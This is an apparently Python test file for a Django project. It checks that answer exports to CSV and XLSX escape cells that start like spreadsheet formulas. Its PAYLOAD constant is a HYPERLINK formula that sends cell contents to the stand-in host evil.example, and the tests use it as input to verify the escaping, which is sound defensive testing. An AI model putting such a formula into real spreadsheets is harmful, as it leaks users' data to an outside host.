"""Exports never carry a live formula: text cells starting like a formula are neutralised by the one
shared writer (veerkracht.core.spreadsheets), in the answers CSV and the XLSX alike."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from tests.fieldwork.factories import random_rows, store_responses
from veerkracht.core import spreadsheets
from veerkracht.fieldwork import exports

pytestmark = pytest.mark.django_db
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_shared_writer_neutralises_every_formula_start(start):
    text = start + "1+1"
    assert spreadsheets.safe_cell(text) == "'" + text
    assert spreadsheets.safe_value(-3) == -3 and spreadsheets.safe_cell(-3) == "-3"
    assert spreadsheets.safe_value(None) is None
    assert spreadsheets.safe_cell("gewoon") == "gewoon"
    parsed = list(csv.reader(io.StringIO(spreadsheets.csv_text(["a"], [[text]]))))
    assert parsed[1] == ["'" + text]


def test_agenda_uses_the_shared_writer():
    from veerkracht.agenda import exchange

    assert exchange._cell is spreadsheets.safe_cell


def test_stored_formula_group_is_text_in_csv_and_xlsx(wave_world, make_wave):
    wave = make_wave(gesloten=True, k=2)
    rows = random_rows(wave, {"wonen": 3}, seed=2)
    rows += [(PAYLOAD, values) for _g, values in random_rows(wave, {"x": 2}, seed=4)]
    store_responses(wave, rows)
    table = list(csv.DictReader(io.StringIO(exports.answers_csv(wave))))
    groups = {r["group"] for r in table}
    assert "'" + PAYLOAD in groups and PAYLOAD not in groups
    book = openpyxl.load_workbook(io.BytesIO(exports.answers_xlsx(wave)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    answers = [r[1] for r in book["antwoorden"].iter_rows(min_row=2, values_only=True)]
    assert answers.count("'" + PAYLOAD) == 2
